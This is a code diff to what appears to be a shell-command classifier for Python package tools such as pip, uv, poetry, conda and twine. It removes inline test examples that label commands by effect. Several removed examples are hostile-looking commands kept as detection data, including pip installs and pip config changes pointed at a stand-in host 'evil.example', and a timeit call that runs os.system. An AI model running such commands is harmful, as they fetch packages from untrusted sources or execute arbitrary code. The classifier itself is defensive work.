@@ -9,13 +9,6 @@ const pip = (): ProgramDescriptor => ({
   summary: 'manages packages of Python',
   options: { '--proxy --log --python --cert --cache-dir': 'text' },
   subcommands: pipCommands,
-  match: {
-    'pip install -r requirements.txt': 'network #package_scripts; read /w/requirements.txt',
-    'pip install --index-url http://evil.example x': 'configure #weakens',
-    'pip config set global.index-url http://evil.example': 'configure #tampered_environment',
-    'pip3 install --target /opt/x y': 'write /opt/x/**',
-  },
-  notMatch: { 'pip install -U pip': 'unknown; * #weakens; * #destructive', 'pip freeze': 'network' },
 });
 
 /** `uv run` runs what is on its input as Python, and a file by its name. */
@@ -37,8 +30,6 @@ const uv = (): ProgramDescriptor => ({
     venv: () => ({ options: { '-p --python --prompt': 'text' }, operands: { first: [{ as: 'write', recursive: true }] } }),
     ...harmless('init build python export tree version self help'),
   },
-  match: { 'uv run rm a': 'delete /w/a', 'uv publish': 'network #remote_change', 'uv run -m pytest': 'execute pytest' },
-  notMatch: { 'uv sync': 'unknown; * #remote_change', 'uv run pytest -x': 'unknown; delete' },
 });
 
 const project = (): ProgramDescriptor => ({
@@ -59,8 +50,6 @@ const project = (): ProgramDescriptor => ({
     }),
     ...harmless('build check show search version init new shell export graph fmt test dep status'),
   },
-  match: { 'poetry run rm a': 'delete /w/a', 'poetry publish --build': 'network #remote_change' },
-  notMatch: { 'poetry install': 'unknown; * #remote_change' },
 });
 
 const conda = (): ProgramDescriptor => ({
@@ -85,7 +74,6 @@ const conda = (): ProgramDescriptor => ({
     config: channels,
     ...harmless('list info search activate deactivate init doctor notices compare'),
   },
-  notMatch: { 'conda create -n x python=3.12': 'unknown; * #destructive', 'conda activate x': 'unknown' },
 });
 
 const source: Use = { as: 'code', language: 'python' };
@@ -123,14 +111,12 @@ export const pythonPackages: Family = {
       'install inject upgrade upgrade-all reinstall': install,
       'uninstall uninstall-all list environment ensurepath completions': () => ({}),
     },
-    match: { 'pipx run rimraf src': 'delete' },
   }),
   ...sharing('poetry pdm pipenv hatch rye', project),
   ...sharing('conda mamba micromamba', conda),
   ...sharing('twine flit', () => ({
     summary: 'publishes Python packages',
     subcommands: { 'upload publish register': does(publishes), 'check build install': () => ({}) },
-    match: { 'twine upload dist/x': 'network #shares' },
   })),
   ...sharing('virtualenv venv', () => ({
     summary: 'makes an environment',
@@ -142,8 +128,6 @@ export const pythonPackages: Family = {
     style: 'posix',
     options: { '-s --setup': source, '-n --number -r --repeat -u --unit': 'text' },
     operands: { rest: source },
-    match: { 'python3 -m timeit "import os; os.system(x)"': 'unknown #inline_code' },
-    notMatch: { "python3 -m timeit 'sum(range(9))'": 'unknown' },
   }),
   ...sharing('python -m pdb,python -m cProfile,python -m profile,python -m trace,python -m runpy,python -m bdb', watching),
   ...sharing('python -m zipfile,python -m tarfile', archive),
@@ -152,7 +136,6 @@ export const pythonPackages: Family = {
     summary: 'shows a stored object, which may run code',
     cases: [{ when: { atLeast: 1 }, effects: [effect('unknown', 'text:a stored object', 'inline_code')] }],
     operands: { rest: 'read' },
-    match: { 'python3 -m pickle a.pkl': 'unknown #inline_code; read /w/a.pkl' },
   }),
   ...sharing('python -m venv,python -m ensurepip', () => ({
     summary: 'makes an environment',
